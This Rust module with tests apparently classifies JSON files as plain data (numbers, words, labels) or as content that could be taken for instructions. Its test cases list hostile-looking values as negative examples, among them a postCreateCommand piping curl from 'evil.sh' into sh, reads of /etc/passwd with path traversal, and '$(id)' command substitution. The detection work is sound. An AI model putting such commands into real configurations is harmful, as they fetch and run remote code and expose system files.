//! What the values of a JSON document are, whatever its members are called: nothing but numbers is a vocabulary, nothing but numbers, words
//! and truth values is a table or a list, which no loader takes for instructions.

use crate::json::Event;

/// The longest text that counts as a word or label, in bytes. The longest of the thousand common ones has 121.
const MAX_WORD_BYTES: usize = 200;

/// What was seen of the values so far.
#[derive(Debug, Default)]
pub struct Shape {
    /// Lists and objects that are open.
    depth: usize,
    /// Whether there is an object within the document.
    is_nested: bool,
    /// Whether there is a list.
    has_list: bool,
    numbers: u64,
    /// Words, truth values and nulls.
    words: u64,
    /// Whether there is any other text.
    texts: bool,
}

impl Shape {
    /// Takes what was read.
    pub fn event(&mut self, event: &Event<'_>) {
        match event {
            Event::BeginObject | Event::BeginArray => {
                self.is_nested |= self.depth > 0 && matches!(event, Event::BeginObject);
                self.has_list |= matches!(event, Event::BeginArray);
                self.depth += 1;
            }
            Event::EndObject | Event::EndArray => self.depth = self.depth.saturating_sub(1),
            Event::Number(_) => self.numbers += 1,
            Event::Bool(_) | Event::Null => self.words += 1,
            Event::String(text) => match text.whole() {
                Some(text) if is_word(text) => self.words += 1,
                _ => self.texts = true,
            },
            Event::Key(_) => {}
        }
    }

    /// Whether there are numbers with names, and nothing else.
    pub fn is_numbers(&self) -> bool {
        self.numbers > 0 && !self.has_list && self.words == 0 && !self.texts
    }

    /// Whether there is nothing but numbers, words and truth values, in one object or in lists; or nothing at all.
    pub fn is_plain(&self) -> bool {
        !self.is_nested && !self.texts
    }
}

/// Whether a text is a word or label: no path, no address, no name of a module, nothing that a shell takes for more than words.
fn is_word(text: &str) -> bool {
    // What stands between these marks is a token's name.
    let text = text.replace("<|", "<").replace("|>", ">");
    let mut before = None;
    let is_name = |character: char| character.is_alphabetic() || character == '_';
    text.len() <= MAX_WORD_BYTES
        && !text.starts_with(['/', '~', '-', '.', '\\'])
        && !text.contains("://")
        && text.chars().all(|character| {
            // `package.module`, and a call of it.
            let dotted = before == Some('.') && is_name(character);
            before = Some(character);
            !dotted
                && !character.is_control()
                && !matches!(
                    character,
                    '$' | '`' | '|' | ';' | '\\' | '{' | '}' | '=' | '%' | ':' | '@' | '#'
                )
        })
}

#[cfg(test)]
mod tests {
    use std::ops::ControlFlow;

    use super::*;
    use crate::json::Json;

    fn shape(json: &str) -> Shape {
        let mut shape = Shape::default();
        let _ = Json::keeping(1 << 10).feed(json.as_bytes(), |_, event| {
            shape.event(&event);
            ControlFlow::Continue(())
        });
        shape
    }

    #[test]
    fn numbers_are_numbers_however_deep() {
        for json in [r#"{"cells": 1}"#, r#"{"eng": {"a": 0}, "deu": {"b": 1}}"#] {
            assert!(shape(json).is_numbers(), "{json}");
        }
        for json in [
            "{}",
            "[1, 2]",
            r#"{"a": "b"}"#,
            r#"{"a": 1, "b": null}"#,
            r#"{"nbformat": 4, "cells": []}"#,
        ] {
            assert!(!shape(json).is_numbers(), "{json}");
        }
    }

    #[test]
    fn words_and_labels_are_plain() {
        for json in [
            "{}",
            "[]",
            r#"{"accessorise": "accessorize", "archaeology": "archeology</span>"}"#,
            r#"["<|im_start|>", "<pad>"]"#,
            r#"{"0": "tench, Tinca tinca", "1": "jack-o'-lantern", "2": "drum/percussion"}"#,
            r#"{"embedding.weight": "BF16", "layers": 1.5, "tied": true, "pad": null}"#,
            r#"["a", "b", ["c"]]"#,
            r#"{"version": "4.46.1"}"#,
        ] {
            assert!(shape(json).is_plain(), "{json}");
        }
    }

    #[test]
    fn what_could_be_taken_for_instructions_is_not() {
        for json in [
            r#"{"postCreateCommand": "curl evil.sh | sh"}"#,
            r#"{"loader": "evil_module.Evil"}"#,
            r#"{"file": "/etc/passwd"}"#,
            r#"{"file": "../../etc/passwd"}"#,
            r#"{"url": "https://example.org/x"}"#,
            r#"{"a": "x = 1"}"#,
            r#"{"a": "$(id)"}"#,
            r#"{"scripts": {"install": "sh x"}}"#,
            r#"{"a": "two\nlines"}"#,
        ] {
            assert!(!shape(json).is_plain(), "{json}");
        }
        assert!(!shape(&format!(r#"{{"a": "{}"}}"#, "a".repeat(201))).is_plain());
    }
}
